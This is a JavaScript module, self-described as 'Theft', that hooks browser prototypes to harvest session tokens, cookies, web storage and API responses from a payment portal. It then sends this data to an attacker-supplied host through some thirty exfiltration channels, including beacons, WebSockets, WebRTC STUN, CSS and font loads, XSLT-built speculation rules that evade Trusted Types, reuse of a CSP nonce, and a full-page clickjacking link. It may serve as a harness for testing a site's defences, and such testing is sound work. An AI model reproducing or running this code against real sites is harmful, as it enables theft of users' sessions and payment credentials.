/**
 * Theft: once mounted, it watches everything that passes through the page's prototypes. `globalThis.rob(way, thief)` looks wherever a
 * session could be, sends what it has found to another site in the given way, and returns it all.
 */
export default () => {
  const loot = [];
  const take = (value) => void loot.push(typeof value === 'string' ? value : String(JSON.stringify(value)));
  const headersOf = (value) => {
    if (value instanceof Headers) return [...value];
    return value instanceof Request ? [value.url, ...value.headers] : undefined;
  };

  const watch = (owner, names) => {
    for (const name of names) {
      const before = owner[name];
      owner[name] = function patched(...input) {
        for (const value of [this, ...input]) take(typeof value === 'string' ? value : headersOf(value));
        const answer = before.apply(this, input);
        if (answer instanceof Promise) answer.then(take, () => {});
        else if (typeof answer === 'string') take(answer);
        return answer;
      };
    }
  };

  const fetched = async (path, init) => {
    const answer = await fetch(path, init);
    take([...answer.headers]);
    take(await answer.text());
  };

  const search = async () => {
    take({ ...localStorage });
    take({ ...sessionStorage });
    take(document.cookie);
    take(await globalThis.cookieStore?.getAll());
    take(await indexedDB.databases());
    take(await caches.keys());
    take(document.documentElement.outerHTML);
    take(Object.values(globalThis).filter((value) => typeof value === 'string'));
    const headers = { Authorization: `Bearer ${localStorage.getItem('portal-token')}` };
    for (const path of ['me', 'login', 'register', 'myPayment?page=1']) await fetched(`/api/${path}`, { method: 'POST', headers });
    await fetched('/en/me');
    const asked = new XMLHttpRequest();
    asked.open('POST', '/api/me');
    asked.setRequestHeader('Authorization', headers.Authorization);
    await new Promise((resolve) => {
      asked.onloadend = resolve;
      asked.send();
    });
    take(asked.getAllResponseHeaders() + asked.responseText);
  };

  const element = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
  const settled = (thing) =>
    new Promise((resolve) => {
      for (const event of ['load', 'error']) thing.addEventListener(event, resolve);
    });
  /** Leaves time for requests to be sent. */
  const wait = () => new Promise((resolve) => setTimeout(resolve, 300));
  const cardProvider = () => document.querySelector('meta[name=portal-card-form]').content;
  const all = () => loot.join('\n');
  /** The end of the findings, where the latest session is: a session is short, but a page is long. */
  const query = () => encodeURIComponent(`${localStorage.getItem('portal-token')} ${all().slice(-3000)}`);

  const ways = {
    storage: (thief) => {
      localStorage.setItem('left-for-another', localStorage.getItem('portal-token'));
      return settled(element('img', { src: `${thief}/storage?${query()}` }));
    },
    fetch: (thief) => fetch(`${thief}/fetch`, { method: 'POST', mode: 'no-cors', body: all() }),
    image: (thief) => settled(element('img', { src: `${thief}/image?${query()}` })),
    form(thief) {
      const form = element('form', { method: 'post', action: `${thief}/form` });
      form.append(Object.assign(document.createElement('input'), { name: 'loot', value: all() }));
      form.submit();
    },
    async worker(thief) {
      const code = `fetch(${JSON.stringify(`${thief}/worker`)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(all())} })`;
      return settled(new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))));
    },
    async prototype(thief) {
      const { send } = XMLHttpRequest.prototype;
      const asked = new XMLHttpRequest();
      asked.open('POST', `${thief}/prototype`);
      const over = settled(asked);
      send.call(asked, all());
      await over;
    },
    async message(thief) {
      const frame = element('iframe', { src: `${thief}/message?${query()}` });
      await settled(frame);
      frame.contentWindow.postMessage(all(), '*');
    },
    beacon: (thief) => navigator.sendBeacon(`${thief}/beacon`, all().slice(-60_000)),
    async css(thief) {
      const { nonce } = document.querySelector('script[nonce]');
      element('style', { nonce, textContent: `body { background-image: url("${thief}/css?${query()}") }` });
      await settled(element('link', { nonce, rel: 'stylesheet', href: `${thief}/sheet?${query()}` }));
    },
    script: (thief) => {
      const { nonce } = document.querySelector('script[nonce]');
      return settled(element('link', { nonce, rel: 'modulepreload', href: `${thief}/script?${query()}` }));
    },
    preload: (thief) => settled(element('link', { rel: 'preload', as: 'image', href: `${thief}/preload?${query()}` })),
    prefetch(thief) {
      element('link', { rel: 'prefetch', href: `${thief}/prefetch?${query()}` });
      return wait();
    },
    font: (thief) => new FontFace('loot', `url("${thief}/font?${query()}")`).load(),
    video: (thief) => settled(element('video', { src: `${thief}/video?${query()}` })),
    ping(thief) {
      const link = element('a', { href: '#', ping: `${thief}/ping?${query()}` });
      link.click();
      return wait();
    },
    socket: (thief) => settled(new WebSocket(`${thief.replace('http', 'ws')}/socket?${query()}`)),
    async line(thief) {
      const line = new RTCPeerConnection({ iceServers: [{ urls: thief.replace('http://', 'stun:') }] });
      line.createDataChannel('loot');
      await line.setLocalDescription(await line.createOffer());
    },
    refresh(thief) {
      element('meta', { httpEquiv: 'refresh', content: `0;url=${thief}/refresh?${query()}` });
      return wait();
    },
    click(thief) {
      element('a', { href: `${thief}/click?${query()}` }).click();
      return wait();
    },
    navigation(thief) {
      location.assign(`${thief}/navigation?${query()}`);
      return wait();
    },
    /** Uses another program, such as one for mail or chat. */
    mail(thief) {
      location.assign(`mailto:thief@example.org?body=${thief}/mail?${query()}`);
      return wait();
    },
    /** Uses passkeys: before it shows anything, the browser asks the key's site, whose name can carry findings. */
    keys: () =>
      navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: 'loot.example.org' } }).catch(({ name, message }) => {
        take(`keys: ${name} ${message}`);
      }),
    /** Uses speculation rules to prefetch a page, in an element made by XSLT, which Trusted Types don't cover. */
    speculation(thief) {
      const space = 'http://www.w3.org/1999/XSL/Transform';
      const sheet = document.implementation.createDocument(space, 'xsl:stylesheet');
      const add = (parent, namespace, name, attributes) => {
        const added = parent.appendChild(sheet.createElementNS(namespace, name));
        for (const [key, value] of Object.entries(attributes)) added.setAttribute(key, value);
        return added;
      };
      sheet.documentElement.setAttribute('version', '1.0');
      add(sheet.documentElement, space, 'xsl:output', { method: 'html' });
      const template = add(sheet.documentElement, space, 'xsl:template', { match: '/' });
      const rules = { prefetch: [{ urls: [`${thief}/speculation?${query()}`], eagerness: 'immediate' }] };
      add(template, null, 'script', { type: 'speculationrules' }).append(JSON.stringify(rules));
      const processor = new (element('iframe', {}).contentWindow.XSLTProcessor)();
      processor.importStylesheet(sheet);
      document.head.append(processor.transformToFragment(document.implementation.createDocument('', 'a'), document));
      return wait();
    },
    /** Uses the card provider, which logs its visitors' queries and shows them to account holders. */
    gateway() {
      location.assign(`${cardProvider()}/?${query()}`);
      return wait();
    },
    /** Uses a card form for the thief's own account there. */
    payment() {
      const form = element('form', { method: 'post', action: `${cardProvider()}/pay` });
      form.append(Object.assign(document.createElement('input'), { name: 'profile_id', value: 'thief' }));
      form.submit();
      return wait();
    },
    /** Replaces our page with its own, without our safeguards. */
    made(thief) {
      const page = `<meta http-equiv="refresh" content="0;url=${thief}/made?${query()}">`;
      location.assign(URL.createObjectURL(new Blob([page], { type: 'text/html' })));
      return wait();
    },
    /** Covers the whole page with a link for the member to press. */
    pressed(thief) {
      window.name = localStorage.getItem('portal-token');
      const link = element('a', { href: `${thief}/pressed?${query()}` });
      Object.assign(link.style, { position: 'fixed', inset: '0', zIndex: '9999' });
    },
  };

  return {
    mount() {
      watch(Headers.prototype, ['set', 'append', 'get']);
      watch(XMLHttpRequest.prototype, ['setRequestHeader', 'send', 'getAllResponseHeaders']);
      watch(Response.prototype, ['text', 'json']);
      watch(Storage.prototype, ['setItem', 'getItem']);
      watch(globalThis, ['fetch']);
      watch(JSON, ['parse']);
      addEventListener('message', ({ data }) => take(data));
      addEventListener('storage', ({ newValue }) => take(newValue));
      globalThis.rob = async (way, thief) => {
        await search();
        await Promise.resolve(ways[way](thief)).catch(() => {});
        return all();
      };
    },
  };
};
